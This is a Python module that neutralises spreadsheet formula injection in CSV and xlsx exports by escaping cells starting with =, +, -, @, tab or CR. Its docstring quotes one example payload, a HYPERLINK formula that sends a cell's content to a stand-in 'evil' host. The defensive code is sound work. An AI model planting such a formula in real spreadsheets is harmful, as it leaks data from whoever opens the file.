"""Cell values safe to hand to a spreadsheet program: text is shown as typed, never run as a formula.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, once
they strip it, a leading tab or carriage return) as a formula: a visit summary typed as
``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine (OWASP "CSV injection").

- In CSV such text is written with a leading apostrophe (``'=1+2``), which spreadsheet programs show as text;
  so is text typed with apostrophes before such a start (``'=1`` → ``''=1``), so the import, which drops
  one apostrophe, reads every cell back as typed.
- In xlsx it is written as a string cell (``data_type == "s"``) with the value exactly as typed; openpyxl
  would otherwise store any string beginning with ``=`` as a formula.
So a phone number ``+86 138 0000 0000`` stays that text in both.
"""
from __future__ import annotations

import re
from datetime import date, datetime
from typing import Any

#: First characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The longest text one xlsx cell holds.
XLSX_CELL_MAX = 32_767
#: Control characters xlsx (XML 1.0) cannot hold; they are dropped (tab, newline, CR stay).
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read `text` as a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> str:
    """The text of one CSV cell: dates as ISO ``yyyy-mm-dd``, None as empty, formula-like text with a
    leading ``'`` so it is shown, not run."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, int | float):
        return str(value)  # a number the export computed, not text a user typed
    text = str(value)
    # also text that begins with apostrophes before a formula start ("'=x" as typed): the import drops one
    # leading apostrophe from exactly such cells (kb.exchange.reading), so every text reads back as typed
    return "'" + text if is_formula_like(text.lstrip("'")) else text


def xlsx_text(value: str) -> str:
    """Text an xlsx cell can hold: control characters XML refuses dropped, cut to 32,767 characters."""
    return _ILLEGAL.sub("", value)[:XLSX_CELL_MAX]
